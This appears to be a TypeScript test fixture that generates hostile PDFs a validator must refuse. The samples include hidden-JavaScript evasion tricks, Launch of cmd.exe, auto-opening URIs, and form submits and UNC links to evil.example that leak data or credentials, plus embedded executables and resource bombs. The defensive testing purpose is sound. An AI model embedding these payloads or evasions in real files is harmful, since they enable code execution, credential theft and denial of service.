import { text } from '../sample-files.ts';
import { corpusFile } from './corpus-file.ts';
import {
  link,
  makePackedPdf,
  makePdf,
  onePage,
  type PdfValue,
  packedStream,
  packOf,
  rawStream,
  revise,
} from './make-pdf.ts';
import { makeZip } from './make-zip.ts';

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

function refused(name: string, holds: string, why: string, make: () => Buffer) {
  return corpusFile(name, 'fileNotPlain', holds, why, make);
}

/** A page and this object beside it, which nothing refers to. */
function beside(value: PdfValue): Buffer {
  return makePdf([...onePage(), value]);
}

/** A page that does this when it is opened. */
function opening(action: string): Buffer {
  return makePdf(onePage(`/OpenAction${action}`));
}

/** An object stream of this object, of whose head this is replaced. */
function packed(value: string, told: string, instead: string): Buffer {
  return text(
    packOf([[9, value]])
      .toString('latin1')
      .replace(told, instead),
  );
}

/** A page with this trailer. */
function trailing(trailer: string): Buffer {
  const file = makePdf(onePage()).toString('latin1');
  return text(file.replace(/trailer\n.*/, () => trailer));
}

/** Embedded files that begin over and over, in an object stream of so many bytes. */
function freezing(bytes: number): Buffer {
  const piece = ' obj<</F(a.xml)>>/EF<<';
  const content = piece.repeat(Math.ceil(bytes / piece.length));
  return beside(packedStream('/Type/ObjStm/N 9/First 60', text(content)));
}

/** An object stream whose objects all begin at the same place, with this. */
function overlapping(content: string): Buffer {
  const index = '9 0 '.repeat(50_000);
  const head = `/Type/ObjStm/N 50000/First ${index.length}`;
  return beside(packedStream(head, text(index + content)));
}

/** PDFs that act, carry or hide something. */
export const hostilePdfs = [
  refused(
    'freezing-69-kb.pdf',
    'An object stream in which an embedded file begins a million times: a search with patterns took 29 s',
    'No object stream: it is parsed once, from its beginning',
    () => freezing(25_000_000),
  ),
  refused('freezing-5-kb.pdf', 'The same in 4.8 KB', 'No object stream', () => freezing(1_700_000)),
  refused(
    'script-behind-long-head.pdf',
    'A script in an object stream whose head is longer than 2,000 bytes',
    'The script is refused: object streams are unpacked, whatever their head',
    () => makePdf([...onePage(), packOf([[9, script]], `/Note(${'x'.repeat(3000)})`)]),
  ),
  refused(
    'script-behind-obj.pdf',
    'A script in an object stream whose head holds the text `(obj)`',
    'The script is refused',
    () => makePdf([...onePage(), packOf([[9, script]], '/Note(obj)')]),
  ),
  refused(
    'script-escaped.pdf',
    'A script whose names are written `/#4aava#53cript`',
    'Names are decoded',
    () => beside('<</S/#4aava#53cript/#4aS(x)>>'),
  ),
  refused(
    'script-in-names.pdf',
    'A script in the tree of names, packed, which runs at opening',
    'Scripts are refused',
    () => makePackedPdf([...onePage('/Names<</JavaScript 5 0 R>>'), `<</Names[(a)${script}]>>`]),
  ),
  refused(
    'script-of-field.pdf',
    'A form field with a script that formats it',
    'Scripts and automatic actions are refused',
    () =>
      beside(
        '<</Type/Annot/Subtype/Widget/FT/Tx/Rect[0 0 9 9]/AA<</K<</S/JavaScript/JS(AFDate_FormatEx\\("d"\\);)>>>>>>',
      ),
  ),
  refused(
    'script-twice-keyed.pdf',
    'A link with two actions under one key, the first of which is a script',
    'A key that stands twice is refused',
    () => makePdf(onePage('', link(`${script}/A<</S/URI/URI(https://a.example)>>`))),
  ),
  refused(
    'script-in-old-revision.pdf',
    'A script that a later revision replaces',
    'All revisions are read',
    () => revise(makePdf([...onePage(), script]), 5, ['<</Type/Font>>']),
  ),
  refused(
    'script-inside-stream.pdf',
    'An object with a script inside of a stream, found by the offset only',
    'Objects are read wherever one can begin',
    () => beside(rawStream('', text(`5 0 obj${script}endobj`))),
  ),
  refused(
    'script-behind-remark.pdf',
    'An object whose number and word are parted by a remark',
    'A head that no program writes is refused',
    () => Buffer.concat([makePdf(onePage()), text(`9 0 %x\nobj${script}endobj\n%%EOF`)]),
  ),
  refused(
    'script-in-nameless-pack.pdf',
    'A script in an object stream that does not say that it is one',
    'It is unpacked all the same',
    () => beside(packedStream('/N 1/First 4', text(`9 0 ${script}`))),
  ),
  refused(
    'script-told-elsewhere.pdf',
    'An action whose type is an object of its own',
    'What hides its type is refused',
    () => makePdf([...onePage(), '<</S 6 0 R>>', '/JavaScript']),
  ),
  refused(
    'script-in-counted-pack.pdf',
    'A script in an object stream whose count is an object of its own',
    'Object streams have to say how many they hold',
    () => makePdf([...onePage(), '1', packed(script, '/N 1', '/N 5 0 R')]),
  ),
  refused(
    'script-in-placed-pack.pdf',
    'A script in an object stream whose beginning is told by an object of its own',
    'Object streams have to say where they begin',
    () => makePdf([...onePage(), '4', packed(script, '/First 4', '/First 5 0 R')]),
  ),
  refused(
    'script-in-half-pack.pdf',
    'A script in a stream that looks like a color profile but for its content',
    'It is taken for an object stream, which it is for some readers',
    () => beside(packedStream('/N 1', text(`9 4 ${script}`))),
  ),
  refused(
    'script-in-trailer.pdf',
    'A catalog with a script in the trailer, behind a remark',
    'Remarks are passed over',
    () => trailing(`trailer%\n<</Size 5/Root<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>>>`),
  ),
  refused(
    'script-behind-odd-blank.pdf',
    'A script whose names end at bytes that PDFium takes for white space (0x80, 0xFF)',
    'Names with these bytes are refused',
    () => beside('<</S/JavaScript\x80/JS\xff(x)>>'),
  ),
  refused(
    'script-in-oddly-parted-pack.pdf',
    'A script in an object stream whose head is parted from its content by such a byte',
    'These bytes are refused behind an object',
    () => makePdf([...onePage(), packed(script, '>>stream', '>> \xffstream')]),
  ),
  refused(
    'script-behind-odd-head.pdf',
    'An object whose number and word are parted by such a byte',
    'A head that no program writes is refused',
    () => Buffer.concat([makePdf(onePage()), text(`9 0\x80obj${script}endobj\n%%EOF`)]),
  ),
  refused(
    'script-in-odd-trailer.pdf',
    'A catalog with a script in the trailer, behind such a byte',
    'Trailers are read behind these bytes too',
    () => trailing(`trailer\x80<</Size 5/Root<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>>>`),
  ),
  refused(
    'encrypted-behind-remark.pdf',
    'Locked, which the trailer says behind a remark',
    'What cannot be read is not taken',
    () => trailing('trailer%\n<</Size 5/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/P -4>>>>'),
  ),
  refused(
    'opens-address-twice-removed.pdf',
    'Opens an address by an object that is another object, which a link uses too',
    'Objects that are elsewhere are refused',
    () =>
      makePdf([
        ...onePage('/OpenAction 5 0 R', link(' 6 0 R')),
        '6 0 R',
        '<</S/URI/URI(https://evil.example)>>',
      ]),
  ),
  refused(
    'opens-address-of-list.pdf',
    'The same by an object that is a list of actions',
    'Lists are followed',
    () =>
      makePdf([
        ...onePage('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>', link(' 6 0 R')),
        '[6 0 R]',
        '<</S/URI/URI(https://evil.example)>>',
      ]),
  ),
  refused(
    'opens-nothing.pdf',
    'Opens by an action that is not in the file, for readers that look elsewhere',
    'Actions have to be there',
    () => opening(' 99 0 R'),
  ),
  refused(
    'remote-file.pdf',
    'A file of a server that belongs to the document, told by its name alone',
    'All content has to be inside',
    () => makePdf(onePage('/AF[<</F(\\\\\\\\evil.example\\\\a)>>]')),
  ),
  refused(
    'remote-drawing.pdf',
    'A drawing that stands for a page of a file on a server',
    'All content has to be inside',
    () =>
      beside(
        rawStream(
          '/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Ref<</F(\\\\\\\\evil.example\\\\a.pdf)/Page 0>>',
          text(''),
        ),
      ),
  ),
  refused('launch.pdf', 'Starts a program', 'Not on the list of actions', () =>
    beside('<</S/Launch/F(cmd.exe)>>'),
  ),
  refused('opens-address.pdf', 'Opens an address when it is opened', 'A link needs a click', () =>
    opening('<</S/URI/URI(https://evil.example)>>'),
  ),
  refused(
    'opens-address-after.pdf',
    'A harmless first action that is followed by an address',
    'A link needs a click',
    () => opening('<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>'),
  ),
  refused(
    'prints-itself.pdf',
    'Prints when it is opened',
    'Only turning pages is on the list',
    () => opening('<</S/Named/N/Print>>'),
  ),
  refused(
    'acts-on-page.pdf',
    'A page that acts when it is shown',
    'Automatic actions are refused',
    () => makePdf(onePage('', '/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>')),
  ),
  refused('submits-form.pdf', 'Sends a form to a server', 'Not on the list of actions', () =>
    makePdf(onePage('', link('<</S/SubmitForm/F(https://evil.example)>>'))),
  ),
  refused(
    'remote-page.pdf',
    'A link to a page of a file on a server, which sends the reader’s password there',
    'Not on the list of actions',
    () => makePdf(onePage('', link('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>'))),
  ),
  refused(
    'file-link.pdf',
    'A link to a program on the reader’s disk',
    'Only web, mail and telephone',
    () => makePdf(onePage('', link('<</S/URI/URI(file:///c:/windows/system32/calc.exe)>>'))),
  ),
  refused(
    'embedded-program.pdf',
    'Carries a program',
    'Only the data of a CV may be embedded',
    () =>
      makePdf([
        ...onePage(),
        '<</Type/Filespec/F(cv.exe)/EF<</F 6 0 R>>>>',
        rawStream('/Type/EmbeddedFile', text('MZ')),
      ]),
  ),
  refused(
    'embedded-page.pdf',
    'Carries a page of the web under a name of data',
    'What it holds counts, not its name',
    () =>
      makePdf([
        ...onePage(),
        '<</Type/Filespec/F(attachment.xml)/EF<</F 6 0 R>>>>',
        rawStream('/Type/EmbeddedFile', text('<html xmlns="http://www.w3.org/1999/xhtml"/>')),
      ]),
  ),
  refused(
    'xml-form.pdf',
    'A form in XML (XFA), which has scripts of its own',
    'XFA is refused',
    () => makePackedPdf([...onePage('/AcroForm 5 0 R'), '<</Fields[]/XFA[(template)6 0 R]>>']),
  ),
  refused('flash.pdf', 'Flash in an annotation', 'Not on the list of annotations', () =>
    makePdf(onePage('', '/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]')),
  ),
  refused(
    'encrypted.pdf',
    'Locked, readable without a password',
    'What cannot be read is not taken',
    () => makePdf(onePage(), '/Encrypt<</Filter/Standard/V 1/R 2/P -4>>'),
  ),
  refused(
    'external-stream.pdf',
    'A stream whose content lies in another file',
    'All content has to be inside',
    () => beside(rawStream('/F(//evil.example/a)', text(''))),
  ),
  refused(
    'pack-bomb.pdf',
    'An object stream that unpacks to 40 MB',
    'Larger than 32 MB unpacked',
    () => beside(packedStream('/Type/ObjStm/N 1/First 4', Buffer.alloc(40_000_000, ' '))),
  ),
  refused(
    'huge-picture.pdf',
    'A picture that claims 65,535 × 65,535 pixels',
    'More than 100 million pixels',
    () => beside(packedStream('/Subtype/Image/Width 65535/Height 65535', text(''))),
  ),
  refused(
    'huge-picture-told-elsewhere.pdf',
    'The same, its sides in an object of their own',
    'Sides are looked up',
    () =>
      makePdf([
        ...onePage(),
        '65535',
        packedStream('/Subtype/Image/Width 5 0 R/Height 5 0 R', text('')),
      ]),
  ),
  refused(
    'huge-page-told-elsewhere.pdf',
    'A page of 35 km, its sides in an object of their own',
    'Sides are looked up',
    () =>
      makePdf([
        ...onePage(),
        '<</Type/Page/Parent 2 0 R/MediaBox 6 0 R>>',
        '[0 0 99999999 99999999]',
      ]),
  ),
  refused('deep.pdf', 'Arrays in arrays, a million deep', 'Deeper than the parser goes', () =>
    beside('['.repeat(1_000_000)),
  ),
  refused(
    'archive-too.pdf',
    'An archive with a program after the pages',
    'A file of two kinds is refused',
    () => Buffer.concat([makePdf(onePage()), makeZip({ 'a.exe': 'MZ' })]),
  ),
  refused(
    'page-after.pdf',
    'A page of the web after the end mark',
    'Nothing may follow the end',
    () => Buffer.concat([makePdf(onePage()), text('<html><script>')]),
  ),
  refused('cut-off.pdf', 'The first half of a PDF', 'The end is missing', () =>
    makePdf(onePage()).subarray(0, 200),
  ),
  corpusFile(
    'endless.pdf',
    'fileTooComplex',
    'An object stream of 50,000 objects behind the same remark of 4 MB',
    'Ended after 2 s of processor time',
    () => overlapping(`%${' '.repeat(4_000_000)}\n0`),
  ),
  corpusFile(
    'hungry.pdf',
    'fileTooComplex',
    'Arrays of 5 million numbers, over and over',
    'Ended at 128 MB of memory',
    () => overlapping(`[${'0.1 '.repeat(5_000_000)}]`),
  ),
];
